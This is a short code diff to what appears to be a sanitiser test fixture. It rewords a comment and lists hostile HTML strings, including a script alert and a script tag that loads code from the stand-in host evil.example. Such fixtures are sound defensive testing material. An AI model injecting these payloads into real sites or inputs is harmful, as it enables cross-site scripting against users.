@@ -1,4 +1,4 @@
-/** HTML that has run scripts in one sanitiser or browser or another. */
+/** HTML that has bypassed some sanitizer. */
 export const hostile: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
